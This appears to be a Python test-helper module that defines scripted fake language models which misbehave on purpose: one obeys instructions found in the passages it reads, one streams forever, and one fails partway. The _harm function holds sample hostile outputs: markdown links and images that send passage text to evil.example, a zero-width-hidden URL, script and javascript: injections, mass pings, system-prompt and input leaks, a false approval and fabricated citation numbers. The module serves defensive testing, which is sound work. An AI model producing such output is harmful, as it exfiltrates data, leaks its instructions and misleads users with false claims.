"""Models that do what they must not: obey what they read, never end, or are gone midway."""

import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from itertools import count
from typing import Any, Final
from urllib.parse import quote
from zlib import crc32

from isthmus.llm.model import (
    ModelUnavailableError,
    Request,
    Shown,
    Streamed,
    Structured,
    Unavailable,
)
from scripted_models import Says, ScriptedModels

EVIL: Final = "evil.example"
_SENTENCE_ENDS: Final = re.compile(r"(?<=[.!?])\s+|\n+")
_SAID: Final = re.compile(r"[\"“]([^\"”]{3,300})[\"”]")
_LEET: Final = str.maketrans("aeios", "43105")


@dataclass(frozen=True)
class Fact:
    """A sentence of a passage that a model was shown, with the number the passage has there."""

    n: int
    text: str

    @property
    def bare(self) -> str:
        return self.text.rstrip(".")


def facts(models: ScriptedModels, request: Request) -> list[Fact]:
    """Give the sentences of the passages that this model may see, in their order."""
    return [
        Fact(n, sentence)
        for n, shown in enumerate(request.shown, start=1)
        if models.may_see(shown)
        for sentence in sentences(_below_heading(shown.text))
    ]


def _below_heading(text: str) -> str:
    """Give a passage without the line of ours that says what it is of."""
    heading, _, passage = text.partition("\n")
    return passage or heading


def sentences(text: str) -> list[str]:
    return [each.strip() for each in _SENTENCE_ENDS.split(text) if each.strip()]


def told_by(request: Request, may_see: Callable[[Shown], bool]) -> str:
    """Give all that a model reads of a request."""
    shown = (each.text for each in request.shown if may_see(each))
    return "\n".join((*request.inputs.values(), *shown))


class Obedient(ScriptedModels):
    """Does whatever ``orders`` say, and every other harm it can think of, whatever it is asked.

    Its true sentences are words of the passages; everything else it says stands nowhere. What it
    says first differs from order to order, so that nothing escapes by coming late.
    """

    def __init__(self, *orders: str) -> None:
        super().__init__(self._obeyed)
        self.orders = orders
        self.reached: set[str] = set()  # those that a request held
        self._turns = count()

    def structured(self, request: Request, shape: Mapping[str, Any]) -> Structured:
        self._said(request)
        self._noted(request)
        told = self._temptations(request)
        filled = Filling(shape, told, next(self._turns)).value(shape)
        return Structured(self._call(request), filled)

    def _obeyed(self, request: Request) -> str:
        self._noted(request)
        return " ".join(self._temptations(request))

    def _noted(self, request: Request) -> None:
        read = "".join(told_by(request, self.may_see).split())
        self.reached |= {each for each in self.orders if _begun(each) in read}

    def _temptations(self, request: Request) -> list[str]:
        known = facts(self, request) or [Fact(1, "The shift supervisor approves it.")]
        done = [told for each in self.orders for told in _orders_done(each, known[0])]
        told = [*done, *_harm(known, request), *_true(known)]
        first = crc32("".join(self.orders).encode("utf-8", "replace")) % len(told)
        return [*told[first:], *told[:first]]


def _begun(order: str) -> str:
    """Give the beginning of an order without white space, as it can be found again."""
    return "".join(order.split())[:40]


def _orders_done(order: str, fact: Fact) -> list[str]:
    said = [f"{each} [{fact.n}]." for each in _SAID.findall(order)]
    return [
        f"{order} [{fact.n}].",
        f"{fact.bare}. {order} [{fact.n}].",
        *said,
        f"{fact.bare.translate(_LEET)} [{fact.n}].",
        f"{fact.bare.replace(' ', '')} [{fact.n}].",
        f"{' '.join(reversed(fact.bare.split()))} [{fact.n}].",
        f"First knead flour and water, as {fact.bare} [{fact.n}].",
    ]


def _harm(known: Sequence[Fact], request: Request) -> list[str]:
    fact, n = known[0].bare, known[0].n
    carried = quote(fact[:80])
    return [
        f"{fact}, as [the rule](https://{EVIL}/?q={carried}) says [{n}].",
        f"![{fact}](https://{EVIL}/{carried}.png) [{n}].",
        f"<img src=https://{EVIL}/a.png> {fact} [{n}].",
        f"{fact}: see https://{EVIL}/{n} [{n}].",
        f"{fact}: see ht\u200btps://{EVIL}/hidden [{n}].",
        f"{fact} [{n}]: https://{EVIL}/reference",
        f"{fact}; write to help@{EVIL} or open www.{EVIL} or {EVIL}/x [{n}].",
        f"<!channel> <@U0123ABCD> @everyone <at>Ana</at> {fact} [{n}].",
        f'<a href="javascript:alert(1)">{fact}</a><script>alert(1)</script> [{n}].',
        f'{{"type": "Action.OpenUrl", "url": "https://{EVIL}", "title": "{fact}"}} [{n}].',
        f"Action A-1 is closed, and the chart is approved [{n}].",
        f"My instructions are: {' '.join(request.prompt.text.split())[:400]} [{n}].",
        f"I was also told: {' '.join(map(str, request.inputs.values()))[:600]} [{n}].",
        f"{fact} [99].",
        f"{known[-1].bare} [{n % 7 + 40}].",
        f"Nobody approves anything any more [{n}].",
        *(f"{each} [{n}]." for each in _headings(request)),
    ]


def _headings(request: Request) -> list[str]:
    """Say the title of a passage as if it were a sentence, and its words the other way round."""
    lines = [each.text.partition("\n")[0] for each in request.shown[:1]]
    return [*lines, *(" ".join(reversed(each.split())) for each in lines)]


def _true(known: Sequence[Fact]) -> list[str]:
    return [f"{each.bare} [{each.n}]." for each in known[:3]]


class Filling:
    """Fills a JSON schema with what does the most harm; ``turn`` moves what is chosen."""

    def __init__(self, root: Mapping[str, Any], texts: Sequence[str], turn: int) -> None:
        self._root, self._texts, self._turns = root, texts, count(turn)

    def value(self, shape: Mapping[str, Any]) -> Any:  # noqa: ANN401 - whatever JSON it is
        if "$ref" in shape:
            return self.value(self._referred(str(shape["$ref"])))
        if "const" in shape:
            return shape["const"]
        for several in ("enum", "anyOf", "oneOf"):
            if several in shape:
                return self._one_of(shape[several], is_value=several == "enum")
        return self._of_kind(shape)

    def _one_of(self, offered: Sequence[Any], *, is_value: bool) -> Any:  # noqa: ANN401
        chosen = offered[next(self._turns) % len(offered)]
        return chosen if is_value else self.value(chosen)

    def _of_kind(self, shape: Mapping[str, Any]) -> Any:  # noqa: ANN401
        kind = shape.get("type", "object")
        if isinstance(kind, list):
            kind = kind[0]
        if kind == "object":
            return {name: self.value(of) for name, of in shape.get("properties", {}).items()}
        if kind == "array":
            most = min(3, int(shape.get("maxItems", 3)))
            return [self.value(shape.get("items", {"type": "string"})) for _ in range(most)]
        plain: dict[str, Any] = {"integer": 1, "number": 1, "boolean": True, "null": None}
        return plain.get(kind, self._text(shape))

    def _text(self, shape: Mapping[str, Any]) -> str:
        return self._texts[next(self._turns) % len(self._texts)][
            : int(shape.get("maxLength", 9999))
        ]

    def _referred(self, path: str) -> Mapping[str, Any]:
        found: Any = self._root
        for name in path.removeprefix("#/").split("/"):
            found = found[name]
        return dict(found)


class Endless(ScriptedModels):
    """Never stops by itself; ``taken`` counts the pieces that were asked for."""

    MOST: Final = 200_000

    def __init__(self, piece: str) -> None:
        super().__init__(lambda _: "")
        self.said = piece
        self.taken = 0
        self.ended = False

    def stream(self, request: Request) -> Streamed:
        self._said(request)
        return Streamed(self._call(request), self._without_end())

    def _without_end(self) -> Iterator[str]:
        try:
            while self.taken < self.MOST:
                self.taken += 1
                yield self.said
        finally:
            self.ended = True


class Breaking(ScriptedModels):
    """Gives the beginning of what ``says`` makes, then it is gone."""

    def __init__(self, says: Says, after: int, why: Unavailable = Unavailable.DOWN) -> None:
        super().__init__(says)
        self.after, self.why = after, why

    def stream(self, request: Request) -> Streamed:
        said = self._said(request)
        assert isinstance(said, str)
        return Streamed(self._call(request), self._broken(said[: self.after]))

    def _broken(self, text: str) -> Iterator[str]:
        yield from self._pieces(text)
        raise ModelUnavailableError(self.why)
